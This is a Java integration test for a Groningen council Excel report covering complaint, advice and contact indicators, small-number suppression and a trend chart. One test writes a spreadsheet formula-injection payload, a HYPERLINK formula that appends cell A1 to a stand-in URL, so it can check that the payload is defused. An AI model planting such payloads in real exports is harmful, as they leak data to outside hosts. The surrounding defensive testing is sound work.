package nl.participatiemonitor.report.excel;

import static nl.participatiemonitor.report.excel.WorkbookCells.allCells;
import static nl.participatiemonitor.report.excel.WorkbookCells.format;
import static nl.participatiemonitor.report.excel.WorkbookCells.read;
import static nl.participatiemonitor.report.excel.WorkbookCells.row;
import static nl.participatiemonitor.report.excel.WorkbookCells.sheetNames;
import static nl.participatiemonitor.report.excel.WorkbookCells.texts;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.Date;
import java.util.HexFormat;
import java.util.List;
import nl.participatiemonitor.ingest.DeliveryImporter;
import nl.participatiemonitor.metrics.IndicatorRunner;
import nl.participatiemonitor.metrics.Period;
import nl.participatiemonitor.metrics.RunFigures;
import nl.participatiemonitor.metrics.Signal;
import nl.participatiemonitor.support.IntegrationTest;
import nl.participatiemonitor.support.TestClock;
import nl.participatiemonitor.support.TestDeliveries;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFChart;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openxmlformats.schemas.drawingml.x2006.chart.CTLineSer;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

/** The raad's workbook of GM0014 (Groningen, two clients) after a run over the complete fixture delivery. */
@IntegrationTest
class CouncilWorkbookTest {

    private static final String GRONINGEN = "GM0014";
    private static final LocalDate DATA_DATE = LocalDate.of(2026, 10, 15);

    @Autowired
    TestClock clock;

    @Autowired
    DeliveryImporter importer;

    @Autowired
    IndicatorRunner runner;

    @Autowired
    RunFigures runFigures;

    @Autowired
    CouncilWorkbook councilWorkbook;

    @Autowired
    JdbcTemplate jdbc;

    private long run;

    @BeforeEach
    void runTheIndicators() throws IOException {
        importer.importFolder(TestDeliveries.complete(), null, null);
        run = runner.run(Period.parse("2026-Q3"), List.of()).runId();
    }

    @Test
    void hasTheSheetsOfTheSpecAndASummaryWithCoverKeyFiguresAndSignals() throws IOException {
        try (XSSFWorkbook workbook = read(render())) {
            assertThat(sheetNames(workbook)).containsExactly("Samenvatting", "Klachten", "Adviezen", "Contact",
                    "Trend", "Indicatoren", "Toelichting");
            XSSFSheet summary = workbook.getSheet("Samenvatting");

            assertThat(row(summary, "Gemeente", "Groningen", GRONINGEN)).isNotNull();
            assertThat(row(summary, "Status", "VOORLOPIG")).isNotNull();
            assertThat(row(summary, "Revisie").getCell(1).getNumericCellValue()).isEqualTo(1);
            Cell dataDate = row(summary, "Datum van de gegevens").getCell(1);
            assertThat(DateUtil.isCellDateFormatted(dataDate)).isTrue();
            assertThat(dataDate.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(DATA_DATE);
            assertThat(DateUtil.isCellDateFormatted(row(summary, "Periode", "2026-Q3").getCell(2))).isTrue();

            assertThat(texts(row(summary, "Code", "Indicator"))).containsExactly("Code", "Indicator", "2026-Q3",
                    "2026-Q2", "Mediaan vergelijkbare gemeenten");
            Row k3 = row(summary, "K3", "Klachten op tijd afgehandeld");
            assertThat(k3.getCell(2).getStringCellValue()).as("1 of 1 on time: too few").isEqualTo(".");
            assertThat(k3.getCell(3).getStringCellValue()).as("no complaint handled in 2026-Q2").isEqualTo("-");
            assertThat(k3.getCell(4).getStringCellValue())
                    .as("K3 is suppressed in every municipality of the group: no median that could give one away")
                    .isEqualTo("-");
            Row k7 = row(summary, "K7", "Klachten open na de termijn");
            assertThat(k7.getCell(2).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(k7.getCell(2).getNumericCellValue()).isZero();
            assertThat(k7.getCell(4).getNumericCellValue()).as("group median of three shown zeros").isZero();
            assertThat(format(k7.getCell(4))).isEqualTo("#,##0");

            List<Signal> signals = runFigures.signals(run, GRONINGEN);
            assertThat(signals).extracting(Signal::code).containsExactly("S4", "S6", "S7");
            for (Signal signal : signals) {
                Row line = row(summary, signal.code(), signal.text());
                assertThat(texts(line)).containsExactly(signal.code(), signal.text(), signal.norm(),
                        signal.normSource());
            }
        }
    }

    @Test
    void indicatorenHoldsEveryFigureInTheLongFormatOfMetricsMd() throws IOException {
        try (XSSFWorkbook workbook = read(render())) {
            XSSFSheet indicators = workbook.getSheet("Indicatoren");

            assertThat(texts(indicators.getRow(0))).containsExactly("gemeente_code", "periode", "indicator",
                    "dimensie", "waarde", "teller", "noemer", "onderdrukt");
            int figures = runFigures.figures(run, GRONINGEN).size();
            assertThat(indicators.getLastRowNum()).isEqualTo(figures);

            Row k1 = row(indicators, GRONINGEN, "2026-Q3", "K1", "");
            assertThat(texts(k1)).as("two complaints: a count below 5")
                    .containsExactly(GRONINGEN, "2026-Q3", "K1", "", "<5", "", "", "J");
            Row c1 = row(indicators, GRONINGEN, "2026-Q3", "C1", "");
            assertThat(texts(c1)).as("1 of 2 long-term clients: teller and noemer hidden as well")
                    .containsExactly(GRONINGEN, "2026-Q3", "C1", "", ".", ".", ".", "J");

            Row seats = row(indicators, GRONINGEN, "2026-Q3", "A8", "orgaan=AO-GR-NOORD,maat=bezetting");
            assertThat(seats.getCell(4).getNumericCellValue()).as("8 of 9 seats").isCloseTo(8 / 9.0, within(1e-9));
            assertThat(format(seats.getCell(4))).isEqualTo("0.0000");
            assertThat(seats.getCell(5).getNumericCellValue()).isEqualTo(8);
            assertThat(seats.getCell(6).getNumericCellValue()).isEqualTo(9);
            assertThat(seats.getCell(7).getStringCellValue()).isEqualTo("N");
            Row facilities = row(indicators, GRONINGEN, "2026-Q3", "A6", "orgaan=AO-GR-NOORD");
            assertThat(facilities.getCell(4).getNumericCellValue()).isEqualTo(6);
            assertThat(format(facilities.getCell(4))).isEqualTo("0");
            assertThat(facilities.getCell(5)).as("no teller for a count").isNull();

            assertThat(indicators.getPaneInformation().isFreezePane()).isTrue();
            assertThat(indicators.getPaneInformation().getHorizontalSplitTopRow()).isEqualTo((short) 1);
            assertThat(indicators.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:H" + (figures + 1));
            assertThat(indicators.getColumnWidth(3)).isEqualTo(34 * 256);
        }
    }

    @Test
    void peopleReadSharesAsPercentagesInTheThemeSheets() throws IOException {
        try (XSSFWorkbook workbook = read(render())) {
            XSSFSheet advice = workbook.getSheet("Adviezen");

            assertThat(texts(advice.getRow(0))).containsExactly("Code", "Indicator", "Onderverdeling",
                    "Waarde 2026-Q3", "Teller", "Noemer");
            Row seats = row(advice, "A8", "Bezetting", "orgaan=AO-GR-NOORD,maat=bezetting");
            assertThat(seats.getCell(3).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(seats.getCell(3).getNumericCellValue()).isCloseTo(8 / 9.0, within(1e-9));
            assertThat(format(seats.getCell(3))).isEqualTo("0.0%");
            assertThat(row(advice, "A9", "Adviezen te laat en onbeantwoord", "Totaal").getCell(3)
                    .getStringCellValue()).isEqualTo("<5");

            for (String theme : List.of("Klachten", "Adviezen", "Contact")) {
                XSSFSheet sheet = workbook.getSheet(theme);
                assertThat(sheet.getPaneInformation().isFreezePane()).as(theme).isTrue();
                assertThat(sheet.getCTWorksheet().isSetAutoFilter()).as(theme).isTrue();
            }
            assertThat(row(workbook.getSheet("Klachten"), "K1", "Klachten ontvangen", "onderwerp=BEJEGENING")
                    .getCell(3).getStringCellValue()).isEqualTo("<5");
            assertThat(row(workbook.getSheet("Contact"), "C7", "Contacten per kanaal", "kanaal=TELEFOON")
                    .getCell(3).getNumericCellValue()).isZero();
        }
    }

    @Test
    void trendShowsNinePeriodsAndALineChartOfContactAndComplaintsOnTime() throws IOException {
        try (XSSFWorkbook workbook = read(render())) {
            XSSFSheet trend = workbook.getSheet("Trend");

            assertThat(texts(trend.getRow(0))).containsExactly("Code", "Indicator", "2024-Q3", "2024-Q4", "2025-Q1",
                    "2025-Q2", "2025-Q3", "2025-Q4", "2026-Q1", "2026-Q2", "2026-Q3");
            assertThat(texts(row(trend, "B1", "Cliënten met een uitkering"))).hasSize(11).endsWith("<5");
            List<XSSFChart> charts = trend.getDrawingPatriarch().getCharts();
            assertThat(charts).hasSize(1);
            List<CTLineSer> series = List.of(
                    charts.get(0).getCTChart().getPlotArea().getLineChartArray(0).getSerArray());
            assertThat(series).extracting(s -> s.getTx().getStrRef().getStrCache().getPtArray(0).getV())
                    .containsExactly("Langdurige cliënten met persoonlijk contact", "Klachten op tijd afgehandeld");
            assertThat(series).extracting(s -> s.getVal().getNumRef().getF())
                    .containsExactly("Trend!$C$10:$K$10", "Trend!$C$11:$K$11");
            assertThat(series.get(0).getVal().getNumRef().getNumCache().sizeOfPtArray())
                    .as("every C1 of GM0014 is suppressed, so the chart has nothing to show").isZero();
        }
    }

    @Test
    void twoRendersOfTheSameRunAreByteIdentical() throws Exception {
        byte[] first = render();
        clock.advance(Duration.ofDays(1));
        byte[] second = render();

        assertThat(sha256(second)).isEqualTo(sha256(first));
        try (XSSFWorkbook workbook = read(first)) {
            var core = workbook.getProperties().getCoreProperties();
            Date midnight = Date.from(DATA_DATE.atStartOfDay(ZoneId.of("Europe/Amsterdam")).toInstant());
            assertThat(core.getCreated()).isEqualTo(midnight);
            assertThat(core.getModified()).isEqualTo(midnight);
            assertThat(core.getCreator()).isEqualTo("Participatiemonitor");
        }
    }

    @Test
    void aSignalThatLooksLikeAFormulaStaysTextAndIsDefused() throws IOException {
        String formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Klik hier\")";
        jdbc.update("UPDATE signalen SET tekst = ?, normbron = ? WHERE run_id = ? AND gemeente_code = ? "
                + "AND signaal = 'S4'", formula, "@SUM(1+1)", run, GRONINGEN);

        try (XSSFWorkbook workbook = read(render())) {
            Row signal = row(workbook.getSheet("Samenvatting"), "S4");
            assertThat(signal.getCell(1).getCellType()).isEqualTo(CellType.STRING);
            assertThat(signal.getCell(1).getStringCellValue()).isEqualTo("\u2019" + formula);
            assertThat(signal.getCell(3).getStringCellValue()).isEqualTo("\u2019@SUM(1+1)");
            assertThat(allCells(workbook)).noneMatch(cell -> cell.getCellType() == CellType.FORMULA);
            assertThat(allCells(workbook)).filteredOn(cell -> cell.getCellType() == CellType.STRING)
                    .extracting(Cell::getStringCellValue)
                    .noneMatch(text -> !text.equals("-") && !text.isEmpty() && "=+-@".indexOf(text.charAt(0)) >= 0);
        }
    }

    private byte[] render() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        councilWorkbook.write(run, GRONINGEN, DATA_DATE, 1, out);
        return out.toByteArray();
    }

    private static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }
}
